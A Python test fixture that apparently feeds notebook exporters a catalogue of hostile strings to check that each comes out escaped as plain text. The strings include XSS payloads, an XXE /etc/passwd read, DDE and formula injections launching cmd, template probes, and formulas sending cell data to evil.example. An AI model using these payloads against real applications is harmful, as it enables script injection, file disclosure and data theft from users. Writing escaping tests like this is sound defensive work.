"""Notebooks whose every text slot holds the same text, for both exporters."""

import nbformat.v4 as nb

from analysis.briefs import blocks
from analysis.briefs.blocks import MIME

SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 3"><path d="M0 0H9"/></svg>'

HTML = [
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\"><svg onload='alert(3)'> & &lt; 'quoted'",
    "</title><script>alert(4)</script>",
    "</style><script>alert(5)</script>",
    "--></script><script>alert(6)</script><!--",
    "<iframe src=javascript:alert(7)></iframe>",
    "<img src=http://evil.example/pixel.png>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus onfocus=alert(8)>go</button></form>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(9)>",
    "<details open ontoggle=alert(10)>x</details>",
    "<video><source onerror=alert(11)></video>",
    "<body onload=alert(12)>",
    "<input autofocus onfocus=alert(13)>",
    "<a href=javascript:alert(14)>click</a>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>alert(15)</script></template>",
    "x' onmouseover='alert(16)",
    'x" style="background:url(//evil.example/y)"',
    "<noscript><p title='</noscript><img src onerror=alert(17)>'>",
    "<svg><animate onbegin=alert(18) attributeName=x dur=1s>",
    "]]><script>alert(19)</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&amp; &#60; &nbsp; \\u003c %3Cscript%3E",
    "&lt;script&gt;alert(20)&lt;/script&gt;",
]
SVGS = [
    "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(21)</script></svg>",
    "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "<svg><image href='http://evil.example/x.png'/></svg>",
    "<svg><foreignObject><iframe src='//evil.example'/></foreignObject></svg>",
    "</text></svg><script>alert(22)</script>",
    "</desc><a href='javascript:alert(23)'>",
]
TYPST = [
    '#panic("x") $ sum $ = Heading `raw` #[a] @ref <label> \\ _a_ *b* //c /*d*/ [e',
    '#read("/etc/passwd")',
    '#import "@preview/x:0.1.0": *',
    '#image("/etc/passwd")',
    "#while true { }",
    "#set page(width: 1pt)",
    "]] #pagebreak() [[",
    '"}}); #panic("x") //',
    "$ integral_0^1 x dif x $ ~ -- --- ...",
    '#link("javascript:alert(24)")[x]',
    "\\u{1F600} \\n \\\\ \\",
    "= Heading\n== Another\n+ one\n- two\n/ term: x",
]
MARKDOWN = [
    "# no heading **no bold** [no](link) ![no](picture) | a | b |",
    "[click](javascript:alert(25))",
    "![x](http://evil.example/pixel.png)",
    "<http://evil.example>",
    "[ref]: http://evil.example 'title'",
    "~~~ fence ~~~ ``` fence",
    "$$ x^2 $$ \\( y \\)",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example","x") +1 -1 @SUM(A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "  =1+1",
    ";=1+1",
    '","=1+1","',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "http://evil.example/auto-link",
    "mailto:x@evil.example",
    "1,5;2",
    "'=1",
]
TEMPLATES = [
    "{{ 7 * 7 }} {% include 'x' %} {# gone? #} ${x} <%= x %>",
    "{{ config }}",
    "%s %(x)s {0} {}",
]
ODD = [
    "Donaudampfschifffahrtsgesellschaftskapitän" * 12,
    "https://example.org/" + "a/" * 40,
    "“It’s” — 'so' … ½ № ﬁ ≤ − ± ▲",
]
RIGHT_TO_LEFT = "Казахстан مرحبا بالعالم שלום"

KINDS = {
    "html": HTML,
    "svg": SVGS,
    "typst": TYPST,
    "markdown": MARKDOWN,
    "formula": FORMULAS,
    "template": TEMPLATES,
    "odd": ODD,
    "right to left": [RIGHT_TO_LEFT],
}
"""Texts that must come out as the texts they are, whatever they would be elsewhere."""

TEXTS = [text for texts in KINDS.values() for text in texts]


def blocks_with(text):
    """Return one block of every kind with `text` wherever a text can stand."""
    span = [blocks.Span(text), *(blocks.Span(text, s) for s in ("strong", "emphasis", "code"))]
    link = blocks.Span(text, href="https://example.org/?q=%22%3E")
    return [
        blocks.Title(
            title=text,
            kicker=text,
            subtitle=text,
            description=text,
            facts=[blocks.KeyFact(text, text, text)],
            class_initials="CD",
            class_name=text,
            class_note=text,
            date="2026-11-21",
        ),
        blocks.Heading(text=text),
        blocks.Paragraph(spans=[*span, link, blocks.Span(text, href="javascript:alert(4)")]),
        blocks.Items(items=[span, [link]], ordered=True),
        blocks.Findings(heading=text, sentences=[text, text]),
        blocks.Note(label=text, text=text),
        blocks.Preformatted(text=text),
        blocks.Figure(
            title=text,
            subtitle=text,
            caption=text,
            alt=f"alt {text}",
            svg=SVG,
            svg_narrow=SVG,
            source=text,
            name="picture",
            data=blocks.Data([text, "value"], [[text, 1], [text, None]]),
        ),
        blocks.Table(
            name="numbers",
            title=text,
            caption=text,
            columns=[blocks.Column(text, text, "left"), blocks.Column(text, text)],
            rows=[[blocks.Cell(text), blocks.Cell(text, "up", derived=True)]],
        ),
    ]


def cell_of(*outputs, tags=()):
    """Return an executed code cell."""
    return nb.new_code_cell("pass", outputs=list(outputs), metadata={"tags": list(tags)})


def stored(block):
    """Return the output that a block leaves in a notebook."""
    return nb.new_output("display_data", {MIME: block.content(), "text/plain": "x"})


def notebook_with(*texts):
    """Return an executed notebook: for each text all blocks, a printed line, a value, Markdown."""
    cells = []
    for place, text in enumerate(texts):
        cells += [
            *(cell_of(stored(b)) for b in blocks_with(text) if place == 0 or b.kind != "title"),
            cell_of(nb.new_output("stream", name="stdout", text=text)),
            cell_of(nb.new_output("execute_result", {"text/plain": text}, execution_count=1)),
            nb.new_markdown_cell(f"```` {text} ````"),
        ]
    return nb.new_notebook(cells=cells)
